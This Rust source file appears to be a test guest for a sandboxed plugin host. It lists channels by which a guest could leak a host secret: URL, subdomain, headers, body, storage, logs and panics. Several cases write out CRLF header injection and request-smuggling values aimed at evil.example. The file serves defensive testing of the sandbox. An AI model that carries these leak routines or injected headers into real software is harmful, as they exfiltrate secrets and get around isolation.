//! Every channel by which a guest could carry a secret out, with all that it knows of it.

use crate::bindings::patchbay::adapter::{http, kv, log, settings};

/// What the host gives as the secret.
pub(crate) fn secret() -> String {
    settings::get("hidden").unwrap_or_default()
}

pub(crate) fn run(name: &str, target: &str) -> String {
    let known = secret();
    match name {
        "leak-url" => send(&format!("{target}/{known}?key={known}"), &[], ""),
        "leak-host" => send(&format!("http://{known}.{target}/"), &[], ""),
        "leak-header" => send(target, &[("x-key", &known)], ""),
        "leak-body" => send(target, &[], &known),
        "leak-kv" => {
            let set = kv::Change::Set(("stolen".to_owned(), known.into_bytes()));
            let stored = kv::commit(&[set]);
            format!("{stored:?} {:?}", kv::get("stolen").map(text))
        }
        "leak-log" => {
            for level in [log::Level::Trace, log::Level::Info, log::Level::Error] {
                log::write(level, &known);
            }
            println!("{known}");
            eprintln!("{known}");
            "logged".to_owned()
        }
        "leak-reply" => known,
        "leak-split" => known.chars().flat_map(|letter| [letter, '-']).collect(),
        "leak-panic" => panic!("{known}"),
        "leak-injected" => send(target, &[("x-key", "a\r\nhost: evil.example")], ""),
        "leak-injected-name" => send(target, &[("x: y\r\nhost", "evil.example")], ""),
        "leak-smuggled" => send(target, &[("transfer-encoding", "chunked")], "0\r\n\r\nGET /"),
        "leak-host-header" => send(target, &[("host", "evil.example")], ""),
        _ => "nothing".to_owned(),
    }
}

fn text(value: Option<Vec<u8>>) -> String {
    value.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).unwrap_or_default()
}

/// The answer with all that came back.
fn send(url: &str, headers: &[(&str, &str)], body: &str) -> String {
    let answer = http::fetch(&http::Request {
        method: "POST".to_owned(),
        url: url.to_owned(),
        headers: headers
            .iter()
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
            .collect(),
        body: body.as_bytes().to_vec(),
        timeout_ms: None,
    });
    match answer {
        Ok(answer) => {
            let body = String::from_utf8_lossy(&answer.body).into_owned();
            format!("{} {:?} {body}", answer.status, answer.headers)
        }
        Err(error) => format!("{error:?}"),
    }
}
